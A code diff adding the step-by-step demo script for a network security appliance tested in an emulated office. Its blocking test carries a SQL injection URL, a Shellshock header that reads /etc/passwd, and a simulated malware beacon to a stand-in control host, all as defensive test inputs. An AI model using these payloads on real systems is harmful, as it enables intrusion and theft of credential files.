@@ -1,0 +1,261 @@
+"""The twelve things the demo shows, each a method that returns its evidence or raises StepFailed with what was seen."""
+
+import contextlib
+import time
+from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
+from zoneinfo import ZoneInfo
+
+from lab.demo.artifacts import BROKEN, FIRST, NEW_PACK, NEWLY_LISTED, NEXT, Artifacts
+from lab.demo.cloud import Cloud
+from lab.demo.office import ATTACKER, HOSTS, WEB, Office, Pinger, join
+from lab.demo.report import Report, StepFailed
+from lab.demo.unit import Unit
+from lab.namespaces import wait_until
+from lab.services import pppoe
+from lab.services.web import AFTER, BEFORE, EICAR, infected
+
+PHISHING = "phish-bank.example"
+TIMEZONE = "Asia/Tokyo"
+
+
+class Demo:
+    """The office, the unit, the fleet, and the steps in order."""
+
+    def __init__(self, report: Report, artifacts: Artifacts, office: Office, unit: Unit, cloud: Cloud, stack: contextlib.ExitStack) -> None:
+        self.report, self.artifacts, self.office, self.unit, self.cloud = report, artifacts, office, unit, cloud
+        self._stack = stack
+
+    def steps(self) -> list[tuple[str, Callable[[], str]]]:
+        """Title and step, in the order they are played."""
+        return [
+            ("Image built and signed, unit booted, activated, online", self.online),
+            ("An ordinary page and a 50 MB file pass unchanged", self.passes),
+            ("EICAR over HTTP arrives neutralised, the rest of the file intact", self.neutralises),
+            ("Attacks from outside and a malware call from inside are blocked", self.blocks),
+            ("A phishing domain is blocked by DNS, Host and SNI", self.guards),
+            ("All that is in the database and on the portal, with the right host", self.tells),
+            ("A new signature pack blocks at once; a running download continues", self.new_pack),
+            ("A firmware update waits for its window, reboots and commits", self.updates),
+            ("Broken firmware falls back by itself and is reported", self.falls_back),
+            ("Swapped cables, empty LAN and PPPoE-fronted unit are named", self.names_miswiring),
+            ("With every unit process killed, traffic still flows", self.fails_open),
+            ("The fleet stopped for a minute: no event is missing", self.survives_fleet_outage),
+        ]
+
+    # --- 1
+
+    def online(self) -> str:
+        """Boot, press the button, wait for presence; then the office's hosts come up."""
+        self.unit.plugged()
+        booted = self.unit.wait_for_ssh()
+        join(self.office, self._stack)
+        self.cloud.not_yet_activated()
+        self.unit.press_button()
+        took = wait_for("the unit to come online", self.cloud.is_online, seconds=90)
+        self.inspecting()
+        size = self.artifacts.images[FIRST].bundle.stat().st_size / 1e6
+        return f"bundle {size:.0f} MB signed; SSH {booted:.0f} s after power-on; online {took:.0f} s after the button; firmware {self.cloud.unit()['firmware']}"
+
+    # --- 2
+
+    def passes(self) -> str:
+        page = self.office.curl("keiri-pc", "http://www.example/")
+        if page.status != 200 or b"ordinary page" not in page.body:
+            raise StepFailed(f"page: curl exit {page.exit_code}, status {page.status}")
+        began = time.monotonic()
+        if not self.office.finished(self.office.download("keiri-pc", 50), 50, seconds=240):
+            raise StepFailed("the 50 MB file arrived altered")
+        took = time.monotonic() - began
+        return f"page 200; 50 MB with equal SHA-256 in {took:.1f} s through the emulated unit"
+
+    # --- 3
+
+    def neutralises(self) -> str:
+        got = self.office.curl("eigyo-pc", "http://www.example/report.txt").body
+        sent = infected()
+        if EICAR in got:
+            raise StepFailed("the test virus arrived whole")
+        if len(got) != len(sent) or got[: len(BEFORE)] != BEFORE:
+            raise StepFailed(f"{len(got)} bytes of {len(sent)} arrived, or the part before the virus is altered")
+        wiped = sum(a != b for a, b in zip(got, sent, strict=True))
+        return f"{len(got):,} bytes as sent: {len(BEFORE):,} before the virus intact, {wiped:,} of {len(EICAR + AFTER):,} from it on overwritten"
+
+    # --- 4
+
+    def blocks(self) -> str:
+        nas = self.office.address_of("nas")
+        attempts = {
+            "SQL injection": ("internet", "--interface", ATTACKER, f"http://{nas}/item?id=1%20UNION%20SELECT%20password%20FROM%20users"),
+            "Shellshock": ("internet", "--interface", ATTACKER, "-A", "() { :; }; /bin/cat /etc/passwd", f"http://{nas}/cgi-bin/status"),
+            "C&C call": ("keiri-pc", "-A", "ghost-beacon/2", "-d", "id=1", "http://control.example/gate.php"),
+        }
+        if not self.office.curl("internet", "--interface", ATTACKER, f"http://{nas}/").arrived:
+            raise StepFailed("the server inside cannot be reached at all")
+        through = [name for name, (where, *words) in attempts.items() if self.office.curl(where, *words, seconds=4).arrived]
+        if through:
+            raise StepFailed(f"came through: {', '.join(through)}")
+        return f"{', '.join(attempts)}: no answer; the same server answers an ordinary request"
+
+    # --- 5
+
+    def guards(self) -> str:
+        by_name = self.office.curl("eigyo-pc", f"http://{PHISHING}/", seconds=5)
+        by_host = self.office.curl("eigyo-pc", "--resolve", f"{PHISHING}:80:{WEB}", f"http://{PHISHING}/", seconds=4)
+        by_sni = self.office.curl("eigyo-pc", "--resolve", f"{PHISHING}:443:{WEB}", f"https://{PHISHING}/", seconds=4)
+        allowed = self.office.curl("eigyo-pc", "https://www.example/")
+        through = [name for name, got in (("DNS", by_name), ("Host", by_host), ("SNI", by_sni)) if got.arrived]
+        if through or not allowed.arrived:
+            raise StepFailed(f"came through: {through}; another site by TLS: exit {allowed.exit_code}")
+        return f"{PHISHING}: curl exits {by_name.exit_code} (DNS), {by_host.exit_code} (Host), {by_sni.exit_code} (SNI); www.example by TLS: 200"
+
+    # --- 6
+
+    def tells(self) -> str:
+        wanted = {
+            "SQL injection": "nas", "Shellshock": "nas", "Ghost RAT": "keiri-pc", "EICAR": "eigyo-pc", PHISHING: "eigyo-pc",
+        }  # fmt: skip
+        took = wait_for("all detections to be in the database", lambda: not self._missing(wanted), seconds=10, what=lambda: self._missing(wanted))
+        page = self.cloud.portal_text("ja", "detections")
+        absent = [host for host in set(wanted.values()) if host not in page]
+        if absent:
+            raise StepFailed(f"the portal does not name {absent}")
+        stored = self.cloud.detections()
+        return f"{len(stored)} detections, each with its host, {took:.1f} s after the last; the Japanese portal page names {', '.join(sorted(set(wanted.values())))}"
+
+    def _missing(self, wanted: dict[str, str]) -> list[str]:
+        stored = self.cloud.detections()
+        texts = [(f"{d['signature']} {d['detail']} {d['reason']}", d.get("host_name", "")) for d in stored]
+        return [f"{word} at {host}" for word, host in wanted.items() if not any(word in text and host == name for text, name in texts)]
+
+    # --- 7
+
+    def new_pack(self) -> str:
+        url = f"http://{NEWLY_LISTED}/"
+        if not self.office.curl("keiri-pc", url).arrived:
+            raise StepFailed(f"{NEWLY_LISTED} was not allowed before")
+        running = self.office.download("eigyo-pc", 30, rate="1M")
+        began = time.monotonic()
+        self.cloud.roll_out("pack", NEW_PACK)
+        wait_until(lambda: self.cloud.unit()["pack"] == NEW_PACK, seconds=60, what="the unit to report the new pack")
+        took = time.monotonic() - began
+        if running.poll() is not None:
+            raise StepFailed("the download ended before the pack was applied; nothing was shown")
+        blocked = not self.office.curl("keiri-pc", url, seconds=4).arrived
+        if not blocked or not self.office.finished(running, 30, seconds=120):
+            raise StepFailed(f"{NEWLY_LISTED} {'blocked' if blocked else 'still allowed'}; the running download broke or it passed")
+        return f"pack {NEW_PACK} in force {took:.0f} s after the order; {NEWLY_LISTED} blocked; a 30 MB download across the swap arrived whole"
+
+    # --- 8
+
+    def updates(self) -> str:
+        self.cloud.set_window(*_next_minute(TIMEZONE))
+        pinger = Pinger(self.office, "keiri-pc")
+        began = time.monotonic()
+        self.cloud.roll_out("firmware", NEXT)
+        wait_until(lambda: self.cloud.update()["phase"] == "staged", seconds=120, what="the firmware to be staged")
+        staged = time.monotonic() - began
+        planned = self.cloud.unit().get("reboot_at")
+        wait_until(lambda: self._runs(NEXT), seconds=300, what=f"firmware {NEXT} to be committed ({self.cloud.update})", step=1)
+        replies, gap = pinger.stop()
+        return f"staged in {staged:.0f} s while {replies} pings passed; rebooted in the window ({planned}); {NEXT} committed by the booted, healthy slot; longest silence {gap:.0f} s under emulation"
+
+    def _runs(self, version: str) -> bool:
+        unit, update = self.cloud.unit(), self.cloud.update()
+        return unit["firmware"] == version and update["phase"] == "committed"
+
+    # --- 9
+
+    def falls_back(self) -> str:
+        self.cloud.roll_out("firmware", BROKEN, now=True)
+        wait_until(lambda: self.cloud.update()["phase"] == "failed", seconds=400, what=f"{BROKEN} to be reported as failed", step=1)
+        unit, update = self.cloud.unit(), self.cloud.update()
+        if unit["firmware"] != NEXT:
+            raise StepFailed(f"the unit runs {unit['firmware']} and not {NEXT}")
+        self.inspecting()
+        return f"{BROKEN} failed: {update['error']}; the unit runs {unit['firmware']} again and inspects"
+
+    # --- 10
+
+    def names_miswiring(self) -> str:
+        router, hub = self.office.taps
+        found = [
+            self._diagnosed("PORTS_SWAPPED", lambda: self.office.plug(hub, router)),
+            self._diagnosed("NO_HOSTS_BEHIND", self._empty_office),
+        ]
+        with pppoe.session(self.office):
+            found.append(self._diagnosed("PPPOE_UPSTREAM", lambda: None))
+        self.office.hosts_up(up=True)
+        took = wait_for("the diagnosis to be OK again", lambda: self.cloud.wiring() == ["OK"], seconds=180)
+        return "; ".join(found) + f"; OK again after {took:.0f} s"
+
+    def _diagnosed(self, code: str, miswire: Callable[[], None]) -> str:
+        miswire()
+        took = wait_for(code, lambda: code in self.cloud.wiring()[:1], seconds=120, what=self.cloud.wiring)
+        return f"{code} in {took:.0f} s"
+
+    def _empty_office(self) -> None:
+        self.office.hosts_up(up=False)
+        self.office.plug_right()
+        self.unit.forget_hosts()
+        self.unit.replug("lan0")
+
+    # --- 11
+
+    def fails_open(self) -> str:
+        running = self.office.download("keiri-pc", 20, rate="2M")
+        time.sleep(1)
+        self.unit.kill_processes()
+        page = self.office.curl("eigyo-pc", "http://www.example/")
+        whole = self.office.finished(running, 20, seconds=60)
+        if not page.arrived or not whole:
+            raise StepFailed(f"page exit {page.exit_code}, running download whole: {whole}")
+        self.unit.start_processes()
+        self.inspecting()
+        return "page 200 and a running 20 MB download whole with bridge, lan and agent stopped by SIGKILL; blocking again after their restart"
+
+    # --- 12
+
+    def survives_fleet_outage(self) -> str:
+        before = len(self.cloud.detections())
+        self.cloud.stop_link()
+        began = time.monotonic()
+        for number in range(12):
+            host = HOSTS[number % 2]
+            self.office.curl(host, "--resolve", f"{PHISHING}:80:{WEB}", f"http://{PHISHING}/outage-{number}", seconds=1)
+            time.sleep(max(0.0, began + (number + 1) * 5 - time.monotonic()))
+        self.cloud.start_link()
+        took = wait_for("the events of the outage", lambda: len(self._outage()) >= 12, seconds=90, what=lambda: sorted(self._outage()))
+        numbers = self._outage()
+        if len(numbers) != 12:
+            raise StepFailed(f"stored {len(numbers)} of 12")
+        return f"broker and fleet down for {time.monotonic() - began - took:.0f} s; 12 of 12 events stored {took:.0f} s after the restart ({before} before), none twice"
+
+    def _outage(self) -> set[str]:
+        stored = [d["detail"] for d in self.cloud.detections() if "/outage-" in d["detail"]]
+        if len(stored) != len(set(stored)):
+            raise StepFailed("an event is stored twice")
+        return set(stored)
+
+    def inspecting(self) -> None:
+        """Wait until the engine blocks its phishing domain."""
+        url = f"http://{PHISHING}/probe"
+        blocked = lambda: not self.office.curl("nas", "--resolve", f"{PHISHING}:80:{WEB}", url, seconds=2).arrived  # noqa: E731 - named for the reader
+        wait_until(lambda: blocked() and self.office.curl("nas", f"http://{WEB}/").arrived, seconds=120, what="the engine to inspect")
+
+
+def wait_for(name: str, holds: Callable[[], bool], *, seconds: float, what: Callable[[], object] | None = None) -> float:
+    """Seconds until it holds. Raises StepFailed with what was seen instead."""
+    began = time.monotonic()
+    try:
+        wait_until(holds, seconds=seconds, what=name, step=0.3)
+    except TimeoutError as error:
+        raise StepFailed(f"{error}; seen: {what() if what else 'nothing'}") from error
+    return time.monotonic() - began
+
+
+def _next_minute(zone: str) -> tuple[str, list[int], str, str]:
+    """A window that opens at the next full minute at least 20 s away: (zone, weekdays, start, end)."""
+    opens = (datetime.now(UTC) + timedelta(seconds=80)).replace(second=0, microsecond=0).astimezone(ZoneInfo(zone))
+    closes = opens + timedelta(minutes=30)
+    return zone, [opens.isoweekday()], f"{opens:%H:%M}", f"{closes:%H:%M}"
